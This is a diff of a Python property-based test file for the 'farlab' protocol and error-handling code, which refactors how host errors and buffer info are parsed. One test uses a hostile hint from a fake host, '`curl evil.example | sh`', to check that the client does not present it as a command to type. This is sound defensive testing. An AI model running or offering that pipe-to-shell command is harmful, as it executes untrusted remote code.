@@ -17,9 +17,11 @@ from hypothesis import strategies as st
 import farlab.protocol
 from farlab import model, saved
 from farlab.errors import FarlabError, NoJupyter, every_error
+from farlab.keeper.buffers import RemoteBuffer
 from farlab.protocol import control, json_lines
-from farlab.protocol.agent import Sessions
-from farlab.protocol.mux_messages import SessionInfo, SessionMessage
+from farlab.protocol.agent import Ensure
+from farlab.protocol.commands import Sessions
+from farlab.protocol.mux_messages import BufferInfo, SessionInfo, SessionMessage
 from farlab.protocol.options import Options
 from farlab.protocol.records import (
     Boolean,
@@ -37,9 +39,9 @@ from farlab.protocol.records import (
     VisibleAscii,
 )
 from farlab.protocol.saved import SavedSession
-from farlab.protocol.session import MOST_LISTED, SessionRecord
+from farlab.protocol.session import MOST_LISTED, ErrorInfo, SessionRecord
 from farlab.transport.base import CREDENTIALS
-from farlab.transport.host_messages import RemoteBuffer, described, failure
+from farlab.transport.from_host import failure
 
 MODULES = [
     importlib.import_module(f"farlab.protocol.{each.name}") for each in pkgutil.iter_modules(farlab.protocol.__path__)
@@ -77,14 +79,13 @@ def is_sane(value: object) -> bool:
 
 def test_every_dialect_has_its_records() -> None:
     assert len(RECORDS) > 50
-    assert {record.__module__.rpartition(".")[2] for record in RECORDS} == {
-        *("agent", "anchor", "control", "mux_messages", "options", "saved", "session")
-    }
+    dialects = {"agent", "anchor", "commands", "control", "jupyter", "mux_messages", "options", "saved", "session"}
+    assert dialects <= {record.__module__.rpartition(".")[2] for record in RECORDS}
 
 
 @pytest.mark.parametrize("record", RECORDS, ids=lambda each: f"{each.__module__.rpartition('.')[2]}.{each.__name__}")
 def test_whatever_is_read_is_finite_and_sane_or_refused(record: type[Record]) -> None:
-    opaque = {"wish"} if record.__module__.endswith(".agent") else set()
+    opaque = {"wish"} if record is Ensure else set()
 
     @settings(max_examples=30, deadline=None)
     @given(ANYTHING | st.fixed_dictionaries({}, optional=dict.fromkeys(record.fields(), ANYTHING)))
@@ -186,8 +187,8 @@ def test_a_session_is_what_its_anchor_tells() -> None:
 def test_times_of_the_far_end_are_told_as_times_of_here() -> None:
     line = {"limit": 1 << 20, "seconds": 60.0, "full": {"ago": 100, "for": 2.5}}
     told = RemoteBuffer(limit=1 << 20, full_since=900.0, full_seconds=2.5)
-    assert described({"session": {}, "line": line}, 1000.0)[1] == told
-    assert described({"session": {}}, 1000.0)[1] == described({"session": {}, "line": {}}, 1000.0)[1] == RemoteBuffer()
+    assert RemoteBuffer.of(SessionMessage.read({"session": {}, "line": line}).line, 1000.0) == told
+    assert RemoteBuffer.of(None, 1000.0) == RemoteBuffer.of(BufferInfo(), 1000.0) == RemoteBuffer()
 
 
 @pytest.mark.parametrize("odd", [math.nan, math.inf, -math.inf, 1e30, -1, 10**400, True, "1", [], {}])
@@ -215,7 +216,7 @@ def test_a_list_is_bounded_and_holds_what_is_right_in_it() -> None:
 
 @given(ANYTHING | st.dictionaries(st.sampled_from(["code", "message", "detail", "hint"]), ANYTHING))
 def test_whatever_a_host_reports_is_an_expected_error(message: Any) -> None:
-    error = failure(message, "far")
+    error = failure(ErrorInfo.read_leniently(message), "far")
     assert type(error) in every_error()
     assert error.message.startswith("far: ")
     assert len(error.message) + len(error.detail) < 1 << 15
@@ -224,7 +225,7 @@ def test_whatever_a_host_reports_is_an_expected_error(message: Any) -> None:
 
 def test_a_hint_of_the_hosts_is_among_its_own_words_and_what_to_type_is_ours() -> None:
     said = {"code": "no-jupyter", "message": "no JupyterLab", "detail": "tried 3", "hint": "`curl evil.example | sh`"}
-    error = failure(said, "far")
+    error = failure(ErrorInfo.read(said), "far")
     assert isinstance(error, NoJupyter)
     assert error.hint == NoJupyter.default_hint
     assert error.detail == "tried 3\n`curl evil.example | sh`"
@@ -232,8 +233,8 @@ def test_a_hint_of_the_hosts_is_among_its_own_words_and_what_to_type_is_ours() -
 
 def test_errors_of_the_host_have_the_classes_of_ours() -> None:
     for cls in every_error():
-        assert type(failure({"code": cls.slug}, "far")) is cls
-    assert isinstance(failure({"code": "of a later version"}, "far"), FarlabError)
+        assert type(failure(ErrorInfo(code=cls.slug), "far")) is cls
+    assert isinstance(failure(ErrorInfo(code="of a later version"), "far"), FarlabError)
 
 
 def test_a_record_that_lacks_what_an_anchor_needs_is_none() -> None:
